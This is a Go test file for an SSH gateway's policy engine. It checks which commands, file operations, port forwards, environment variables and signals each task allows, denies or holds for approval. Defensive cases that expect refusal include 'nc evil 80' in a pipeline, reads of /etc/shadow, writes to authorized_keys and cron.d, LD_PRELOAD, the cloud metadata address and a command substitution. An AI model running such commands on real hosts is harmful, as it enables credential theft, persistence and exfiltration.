package policy

import (
	"strings"
	"testing"

	"github.com/taskgate/taskgate/abi"
)

var web = Config{Tasks: map[string]*Task{
	"x": {Rules: []Rule{
		{At: "x.yaml:5", Host: &Host{Exec: [][]string{{"systemctl", "restart", "web-*"}, {"uptime"}, {"grep", "-c", "*", "/var/log/web/*"}}}},
		{At: "x.yaml:6", Host: &Host{Exec: [][]string{{"tee", "/tmp/in"}, {"cat"}}, Stdin: true}},
		{At: "x.yaml:7", Host: &Host{Exec: [][]string{{"cat"}, {"wc", "-l"}}}},
		{At: "x.yaml:8", Host: &Host{Files: map[string][]string{"read": {"/var/log/web/**", "/etc/hosts"}, "write": {"/srv/app/*.conf", "/tmp/out"}, "list": {"/srv"}, "remove": {"/srv/app/**"}, "rename": {"/srv/app/**"}, "persist": {"/home/deploy/.ssh/authorized_keys"}}}},
		{At: "x.yaml:9", Host: &Host{Forward: []string{"db-1:5432", "[::1]:8080", "/run/app.sock"}}},
		{At: "x.yaml:10", Host: &Host{Bind: []string{"127.0.0.1:8080", "/run/back.sock"}}},
		{At: "x.yaml:11", Host: &Host{Env: []string{"LANG", "LC_*", "GIT_*", "EDITOR"}}},
		{At: "x.yaml:12", Host: &Host{Signals: []string{"TERM", "INT"}}},
		{At: "x.yaml:13", Host: &Host{Exec: [][]string{{"systemctl", "stop", "web-*"}, {"uptime"}}, Stdin: true}, Review: &Review{Groups: []string{"sre"}, People: 1, Within: 60}},
		{At: "x.yaml:14", Host: &Host{Files: map[string][]string{"write": {"/srv/app/**"}}}, Review: &Review{Groups: []string{"sre"}, People: 1, Within: 60}},
		{At: "x.yaml:15", Host: &Host{Exec: [][]string{{"reboot"}}}, Review: &Review{Groups: []string{"boss"}, People: 2, Within: 60}},
	}},
	"open":    {Rules: []Rule{{At: "open.yaml:4", Host: &Host{May: "opaque", Stdin: true}}, {At: "open.yaml:5", Host: &Host{May: "shell"}}, {At: "open.yaml:6", Host: &Host{May: "agent"}}, {At: "open.yaml:7", Host: &Host{May: "x11"}}}},
	"held":    {Rules: []Rule{{At: "held.yaml:4", Host: &Host{May: "opaque"}, Review: &Review{Groups: []string{"sre"}, People: 1, Within: 60}}}},
	"command": {Rules: []Rule{{At: "command.yaml:4", Host: &Host{May: "command"}}, {At: "command.yaml:5", Host: &Host{Exec: [][]string{{"uptime"}}}}}},
	"none":    {},
}}

func run(words ...string) abi.Operation {
	return abi.Operation{Verb: "exec", Kind: abi.KindProgram, Object: words}
}

func file(verb, path string) abi.Operation {
	return abi.Operation{Verb: verb, Kind: abi.KindFile, Object: []string{path}, Effect: abi.EffectWrite}
}

func does(verb, kind string, object ...string) abi.Operation {
	return abi.Operation{Verb: verb, Kind: kind, Object: object}
}

func ssh(task, incomplete string, ops ...abi.Operation) *abi.Verdict {
	v := &abi.Verdict{}
	web.Judge(&abi.Command{Phase: abi.Execute, Session: &abi.Session{Task: task, Protocol: "ssh"}, Statement: &abi.Statement{Protocol: "ssh", Operations: ops, Incomplete: incomplete}}, v)
	return v
}

// TestSC01Kinds: whatever SSH can do is an operation, and refused unless listed.
func TestSC01Kinds(t *testing.T) {
	sftp := does("subsystem", abi.KindProgram, "sftp")
	sftp.Attrs, sftp.Effect = abi.Floor, abi.EffectRead
	netconf := sftp
	netconf.Object = []string{"netconf"}
	floor := func(o abi.Operation) abi.Operation {
		o.Attrs, o.Effect = abi.Floor, abi.EffectRead
		return o
	}
	for _, c := range []struct {
		name string
		op   abi.Operation
		want string // the tasks that allow it
		says string
	}{
		{"an interactive shell", does("shell", abi.KindTerminal), "open command", "an interactive shell is not in this task"},
		{"SC05 bash by exec", does("shell", abi.KindTerminal, "bash", "--rcfile", "x"), "open", "the interactive shell bash --rcfile x is not in this task"},
		{"the key agent", does("forward", abi.KindAgent), "open", "forwarding the key agent is not in this task"},
		{"the display", does("forward", abi.KindX11), "open", "forwarding the display"},
		{"direct-tcpip", does("connect", abi.KindForward, "db-1", "5432"), "x", "connect to db-1 port 5432 is not in this task"},
		{"another port", does("connect", abi.KindForward, "db-1", "22"), "", "connect to db-1 port 22"},
		{"SC03 metadata", does("connect", abi.KindForward, "169.254.169.254", "80"), "", "169.254.169.254 port 80"},
		{"another form of the host", does("connect", abi.KindForward, "DB-1", "5432"), "", ""},
		{"a name with the port in it", does("connect", abi.KindForward, "db-1:5432", ""), "", ""},
		{"a name in one piece", does("connect", abi.KindForward, "db-1:5432"), "", ""},
		{"IPv6", does("connect", abi.KindForward, "::1", "8080"), "x", ""},
		{"IPv6 with brackets", does("connect", abi.KindForward, "[::1]", "8080"), "", ""},
		{"what may be bound, connected to", does("connect", abi.KindForward, "127.0.0.1", "8080"), "", ""},
		{"streamlocal", does("connect", abi.KindForward, "/run/app.sock"), "x", ""},
		{"another socket", does("connect", abi.KindForward, "/run/docker.sock"), "", "/run/docker.sock"},
		{"tcpip-forward", does("bind", abi.KindForward, "127.0.0.1", "8080"), "x", ""},
		{"on every address", does("bind", abi.KindForward, "", "8080"), "", `listening on "" port 8080 is not in this task`},
		{"streamlocal-forward", does("bind", abi.KindForward, "/run/back.sock"), "x", ""},
		{"a forward without a verb that is known", does("tunnel", abi.KindForward, "db-1", "5432"), "", ""},
		{"SC11 a signal", does("signal", abi.KindSignal, "TERM"), "x", ""},
		{"SC11 another signal", does("signal", abi.KindSignal, "KILL"), "", "the signal KILL is not in this task"},
		{"SC11 no name", does("signal", abi.KindSignal), "", ""},
		{"SC06 LANG", does("setenv", abi.KindEnvironment, "LANG"), "x", ""},
		{"SC06 LC_", does("setenv", abi.KindEnvironment, "LC_ALL"), "x", ""},
		{"SC06 LC_ alone", does("setenv", abi.KindEnvironment, "LC_"), "", ""},
		{"SC06 an equal sign", does("setenv", abi.KindEnvironment, "LC_A=B"), "", ""},
		{"SC06 a zero byte", does("setenv", abi.KindEnvironment, "LC_A\x00"), "", ""},
		{"SC06 SF12 LD_PRELOAD", does("setenv", abi.KindEnvironment, "LD_PRELOAD"), "", "the variable LD_PRELOAD is not in this task"},
		{"SC06 what runs a program, by a pattern", does("setenv", abi.KindEnvironment, "GIT_SSH_COMMAND"), "", ""},
		{"SC06 what runs a program, by name", does("setenv", abi.KindEnvironment, "EDITOR"), "x", ""},
		{"SF09 a file", file("read", "/etc/hosts"), "x", ""},
		{"another file", file("read", "/etc/shadow"), "", "read on /etc/shadow is not in this task"},
		{"sftp", sftp, "x", "no files are in this task, and so sftp is not"},
		{"a stat that is said to be floor", floor(file("stat", "/home/deploy")), "", ""},
		{"SC09 sftp that is no part of the floor", does("subsystem", abi.KindProgram, "sftp"), "", ""},
		{"SC09 another subsystem", netconf, "", "subsystem netconf is not in this task"},
		{"SC09 sftp by exec", run("internal-sftp"), "", "exec internal-sftp is not in this task"},
		{"an unknown kind", floor(does("exec", "tunnel", "tun0")), "", ""},
		{"a program by another verb", does("run", abi.KindProgram, "uptime"), "", ""},
		{"a program that is said to be floor", floor(run("id")), "", ""},
		{"a file that is said to be floor", floor(file("read", "/etc/shadow")), "", ""},
		{"a terminal by another verb", does("exec", abi.KindTerminal), "", ""},
		{"what is opaque, and yet complete", does("exec", abi.KindOpaque, "x"), "", ""},
		{"a relation", op("select", "public.orders", 0, "", "id"), "", ""},
	} {
		for _, task := range []string{"x", "open", "held", "command", "none"} {
			v := ssh(task, "", c.op)
			want := abi.Deny
			if strings.Contains(" "+c.want+" ", " "+task+" ") {
				want = abi.Allow
			}
			if v.Decision != want || want == abi.Deny && task == "none" && !strings.Contains(v.Reason.Message, c.says) {
				t.Errorf("%s in %s: %v %+v", c.name, task, v.Decision, v.Reason)
			}
		}
	}
}

// TestSC07Exec: each program of a pipeline and each redirection is listed, or
// nothing runs; what is not understood is refused.
func TestSC07Exec(t *testing.T) {
	via := func(how string, o abi.Operation) abi.Operation { o.Via = how; return o }
	for _, c := range []struct {
		name  string
		ops   []abi.Operation
		want  abi.Decision
		stdin bool
		says  string
	}{
		{"listed", []abi.Operation{run("systemctl", "restart", "web-1")}, abi.Allow, false, ""},
		{"unlisted", []abi.Operation{run("systemctl", "restart", "db-1")}, abi.Deny, false, "exec systemctl restart db-1 is not in this task"},
		{"a word more", []abi.Operation{run("uptime", "-p")}, abi.Deny, false, ""},
		{"by a path", []abi.Operation{run("/usr/bin/uptime")}, abi.Deny, false, "exec /usr/bin/uptime"},
		{"sh -c", []abi.Operation{run("sh", "-c", "uptime")}, abi.Deny, false, "exec sh -c uptime"},
		{"a pipeline", []abi.Operation{run("grep", "-c", "err", "/var/log/web/a.log"), run("wc", "-l")}, abi.Allow, false, ""},
		{"a pipeline into what is not", []abi.Operation{run("uptime"), run("nc", "evil", "80")}, abi.Deny, false, "nc evil 80"},
		{"a pipeline from what is not", []abi.Operation{run("nc", "evil", "80"), run("cat")}, abi.Deny, false, ""},
		{"a redirection", []abi.Operation{run("uptime"), file("write", "/tmp/out")}, abi.Allow, false, ""},
		{"a redirection elsewhere", []abi.Operation{run("uptime"), file("write", "/etc/passwd")}, abi.Deny, false, "write on /etc/passwd"},
		{"a redirection from a file", []abi.Operation{run("cat"), file("read", "/etc/shadow")}, abi.Deny, false, "read on /etc/shadow"},
		{"SC24 a redirection to a key", []abi.Operation{run("uptime"), file("persist", "/root/.ssh/authorized_keys")}, abi.Deny, false, "runs again by itself"},
		{"with a standard input", []abi.Operation{run("tee", "/tmp/in")}, abi.Allow, true, ""},
		{"of two rules the one with it", []abi.Operation{run("cat")}, abi.Allow, true, ""},
		{"the first program has it", []abi.Operation{run("cat"), run("wc", "-l")}, abi.Allow, true, ""},
		{"the first program has it not", []abi.Operation{run("wc", "-l"), run("cat")}, abi.Allow, false, ""},
		{"a redirection first", []abi.Operation{file("write", "/tmp/out"), run("cat")}, abi.Allow, true, ""},
		{"held", []abi.Operation{run("systemctl", "stop", "web-1")}, abi.Review, true, "needs the approval of sre"},
		{"allowed before held", []abi.Operation{run("uptime")}, abi.Allow, false, ""},
		{"held for one of two", []abi.Operation{run("uptime"), file("write", "/srv/app/x")}, abi.Review, false, ""},
		{"held twice, by the same people", []abi.Operation{run("systemctl", "stop", "web-1"), file("write", "/srv/app/x")}, abi.Review, true, ""},
		{"held twice, by others", []abi.Operation{run("systemctl", "stop", "web-1"), run("reboot")}, abi.Deny, false, "two approvals that differ"},
		{"what a wrapper runs", []abi.Operation{run("uptime"), via("env", run("id"))}, abi.Deny, false, "exec id"},
		{"what a wrapper runs, listed", []abi.Operation{run("uptime"), via("env", run("wc", "-l"))}, abi.Allow, false, ""},
		{"a file behind a program", []abi.Operation{run("uptime"), via("x", file("write", "/etc/passwd"))}, abi.Deny, false, ""},
		{"no words", []abi.Operation{run()}, abi.Deny, false, ""},
		{"opaque beside", []abi.Operation{run("uptime"), does("exec", abi.KindOpaque, "x")}, abi.Deny, false, ""},
	} {
		v := ssh("x", "", c.ops...)
		if v.Decision != c.want || v.Stdin != c.stdin || !strings.Contains(v.Reason.Message, c.says) {
			t.Errorf("%s: %v %v %+v", c.name, v.Decision, v.Stdin, v.Reason)
		}
	}
	unknown := does("exec", abi.KindOpaque, "echo $(id)")
	for _, c := range []struct {
		name, task string
		ops        []abi.Operation
		want       abi.Decision
		stdin      bool
	}{
		{"not listed", "x", []abi.Operation{unknown}, abi.Deny, false},
		{"no task has it", "none", []abi.Operation{unknown}, abi.Deny, false},
		{"listed", "open", []abi.Operation{unknown}, abi.Allow, true},
		{"held", "held", []abi.Operation{unknown}, abi.Review, false},
		{"SC22 nothing is known at all", "open", nil, abi.Deny, false},
		{"beside what is known", "open", []abi.Operation{unknown, run("uptime")}, abi.Deny, false},
		{"twice", "open", []abi.Operation{unknown, unknown}, abi.Deny, false},
		{"of another kind", "open", []abi.Operation{run("uptime")}, abi.Deny, false},
		{"by another verb", "open", []abi.Operation{does("shell", abi.KindOpaque, "x")}, abi.Deny, false},
		{"behind something", "open", []abi.Operation{via("rule", unknown)}, abi.Deny, false},
	} {
		v := ssh(c.task, "a substitution", c.ops...)
		if v.Decision != c.want || v.Stdin != c.stdin || c.want == abi.Deny && (v.Reason.Code != "tasks.incomplete" || !strings.Contains(v.Reason.Message, "a substitution")) {
			t.Errorf("opaque, %s: %v %+v", c.name, v.Decision, v.Reason)
		}
	}
	v := &abi.Verdict{}
	web.Judge(&abi.Command{Session: &abi.Session{Task: "open"}, Statement: &abi.Statement{Protocol: "postgres", Incomplete: "?", Operations: []abi.Operation{unknown}}}, v)
	if v.Decision != abi.Deny {
		t.Error("SQL that is not understood passes as a host's")
	}
}

// TestSC24Files: what a list of one verb says for another.
func TestSC24Files(t *testing.T) {
	for _, c := range []struct {
		verbs, path string
		want        abi.Decision
	}{
		{"read stat list", "/var/log/web/a", abi.Allow},
		{"stat list", "/var/log/web", abi.Allow}, // the directory of the pattern
		{"read write remove", "/var/log/web", abi.Deny},
		{"stat list read", "/var/log", abi.Deny},
		{"stat read list", "/etc/hosts", abi.Allow},
		{"stat list", "/etc", abi.Deny}, // an entry without a pattern names itself alone
		{"write remove rename mkdir setstat link persist", "/var/log/web/a", abi.Deny},
		{"write stat", "/tmp/out", abi.Allow},
		{"read list remove setstat", "/tmp/out", abi.Deny},
		{"write stat remove rename", "/srv/app/a.conf", abi.Allow},
		{"read list setstat link mkdir", "/srv/app/a.conf", abi.Deny},
		{"stat", "/srv/app", abi.Allow}, // what is written to lies there
		{"list write remove rename", "/srv/app", abi.Deny},
		{"list stat", "/srv", abi.Allow},
		{"read", "/srv", abi.Deny},
		{"write", "/srv/app/a", abi.Review},
		{"remove rename stat", "/srv/app/a/b", abi.Allow},
		{"persist stat", "/home/deploy/.ssh/authorized_keys", abi.Allow},
		{"write read remove rename list", "/home/deploy/.ssh/authorized_keys", abi.Deny},
		{"persist stat", "/home/deploy/.ssh/authorized_keys2", abi.Deny},
		{"persist stat", "/home/deploy/.ssh", abi.Deny},
		{"persist", "/srv/app/a.conf", abi.Deny}, // by no pattern of another verb
		{"persist", "/tmp/out", abi.Deny},        // nor by its very name there
		{"read stat list", "/var/log/web/../web/a", abi.Deny},
		{"read stat list", "/var/log/web/", abi.Deny},
		{"read stat list", "var/log/web/a", abi.Deny},
		{"persist", "/home/deploy/.ssh/../.ssh/authorized_keys", abi.Deny},
		{"chown open teleport", "/var/log/web/a", abi.Deny},
	} {
		for _, verb := range strings.Fields(c.verbs) {
			if v := ssh("x", "", file(verb, c.path)); v.Decision != c.want {
				t.Errorf("%s %s: %v %+v", verb, c.path, v.Decision, v.Reason)
			}
		}
	}
	two := file("rename", "/srv/app/a")
	two.Object = append(two.Object, "/srv/app/b")
	if v := ssh("x", "", two); v.Decision != abi.Deny {
		t.Error("one operation is on one path")
	}
	star := Config{Tasks: map[string]*Task{"x": {Rules: []Rule{{Host: &Host{Files: map[string][]string{"persist": {"/etc/cron.d/*", "/**"}, "write": {"/**"}}}}}}}}
	v := &abi.Verdict{}
	star.Judge(&abi.Command{Session: &abi.Session{Task: "x"}, Statement: &abi.Statement{Protocol: "ssh", Operations: []abi.Operation{file("persist", "/etc/cron.d/x")}}}, v)
	if v.Decision != abi.Deny {
		t.Error("a pattern stands for what runs again by itself")
	}
}

// TestHostHints: a refusal says what comes closest, and what the task allows in
// the words of its file.
func TestHostHints(t *testing.T) {
	for _, c := range []struct {
		op                  abi.Operation
		what, closest, hint string
	}{
		{run("systemctl", "restart", "db-1"), "exec systemctl restart db-1 is not in this task", "closest is rule x.yaml:5: exec: systemctl restart web-*", "task x allows: exec: systemctl restart web-*, uptime, grep -c * /var/log/web/*; exec: tee /tmp/in, cat with its standard input; "},
		{run("/bin/systemctl", "stop", "web-1"), "exec /bin/systemctl stop web-1", "", "exec: systemctl stop web-*, uptime with its standard input after approval"},
		{run("/bin/uptime"), "", "closest is rule x.yaml:5: exec: uptime", ""},
		{run("a b", "", "c\x1b[2J", "d'e"), `exec "a b" "" "c\x1b[2J" "d'e" is not in this task`, "", ""},
		{run("echo", strings.Repeat("ä", 500)), "exec echo " + strings.Repeat("ä", 100), "", ""},
		{file("remove", "/var/log/web/a"), "remove on /var/log/web/a", "closest is rule x.yaml:8: files: read /var/log/web/**", "task x allows: files: read /var/log/web/**, /etc/hosts, list /srv, write /srv/app/*.conf, /tmp/out, remove /srv/app/**"},
		{file("read", "/var/log/other"), "", "closest is rule x.yaml:8: files: read /var/log/web/**", ""},
		{file("read", "a/b"), "read on a/b is refused: a path is absolute", "", ""},
		{file("read", "/var/log/web/.env"), "read on /var/log/web/.env is not in this task: no pattern stands for a name that begins with a dot", "closest is rule x.yaml:8: files: read /var/log/web/**", ""},
		{does("connect", abi.KindForward, "db-1", "22"), "", "closest is rule x.yaml:9: forward: db-1:5432", "task x allows: forward: db-1:5432, [::1]:8080, /run/app.sock; exec"},
		{does("bind", abi.KindForward, "0.0.0.0", "8080"), "", "closest is rule x.yaml:10: bind: 127.0.0.1:8080", "task x allows: bind: 127.0.0.1:8080"},
		{does("setenv", abi.KindEnvironment, "X"), "", "", "task x allows: env: LANG, LC_*, GIT_*, EDITOR; "},
		{does("signal", abi.KindSignal, "HUP"), "", "", "task x allows: signals: TERM, INT; "},
	} {
		r := ssh("x", "", c.op).Reason
		if r.Code != "tasks.not-allowed" || !strings.HasPrefix(r.Message, c.what) || len(r.Message) > 400 || !strings.HasPrefix(r.Closest, c.closest) || !strings.Contains(r.Hint, c.hint) {
			t.Errorf("%v: %+v", c.op.Object, r)
		}
	}
	for task, want := range map[string]string{
		"open":    "task open allows: opaque: allow with its standard input; shell: allow; agent: allow; x11: allow. For more",
		"command": "task command allows: exec: uptime; shell: command. For more",
	} {
		if r := ssh(task, "", run("id")).Reason; !strings.HasPrefix(r.Hint, want) {
			t.Errorf("%+v", r)
		}
	}
	if r := ssh("command", "", does("shell", abi.KindTerminal, "bash")).Reason; r.Closest != "closest is rule command.yaml:4: shell: command, which is the gateway's own and takes no words" {
		t.Errorf("%+v", r)
	}
	if v := ssh("x", "", run("systemctl", "stop", "web-1")); v.Review.Summary != "x: exec: systemctl stop web-*, uptime with its standard input after approval" || v.Review.Within != 60 {
		t.Errorf("%+v", v.Review)
	}
	many := &Host{}
	for range 20 {
		many.Exec = append(many.Exec, []string{"a"})
	}
	if got := many.String(); got != "exec: a, a, a, a, a, a, a, a, …" {
		t.Error(got)
	}
}

func BenchmarkJudgeExec(b *testing.B) {
	cmd := &abi.Command{Session: &abi.Session{Task: "x"}, Statement: &abi.Statement{Protocol: "ssh", Operations: []abi.Operation{run("systemctl", "restart", "web-1")}}}
	b.ReportAllocs()
	for b.Loop() {
		var v abi.Verdict
		web.Judge(cmd, &v)
	}
}

func BenchmarkJudgeFile(b *testing.B) {
	cmd := &abi.Command{Session: &abi.Session{Task: "x"}, Statement: &abi.Statement{Protocol: "ssh", Operations: []abi.Operation{file("read", "/var/log/web/2026/11/access.log")}}}
	b.ReportAllocs()
	for b.Loop() {
		var v abi.Verdict
		web.Judge(cmd, &v)
	}
}
